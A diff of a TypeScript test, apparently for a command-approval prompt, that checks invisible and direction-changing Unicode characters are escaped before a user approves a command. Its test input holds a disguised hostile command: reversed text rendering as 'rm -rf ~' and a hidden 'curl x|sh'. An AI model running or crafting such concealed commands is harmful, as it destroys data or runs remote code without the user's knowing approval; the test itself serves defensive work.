@@ -34,10 +34,7 @@ test('what is approved is what runs: invisible and direction-changing characters
   const command = 'echo safe \u202e# ~ fr- mr\u202c\rcurl x|sh\u200b\u061c\u{e0041}\nls\t-l';
   const answer = broker.ask('command', 'Run this command?', command);
   const detail = shown[0]!.detail;
-  assert.equal(
-    detail,
-    'echo safe \\u{202e}# ~ fr- mr\\u{202c}\\u{d}curl x|sh\\u{200b}\\u{61c}\\u{e0041}\nls\t-l',
-  );
+  assert.equal(detail, 'echo safe \\u{202e}# ~ fr- mr\\u{202c}\\u{d}curl x|sh\\u{200b}\\u{61c}\\u{e0041}\nls\t-l');
   assert.doesNotMatch(detail, /[\u202a-\u202e\u200b\u061c\r]|\u{e0041}/u);
   broker.answer(shown[0]!.id, false);
   assert.equal(await answer, false);
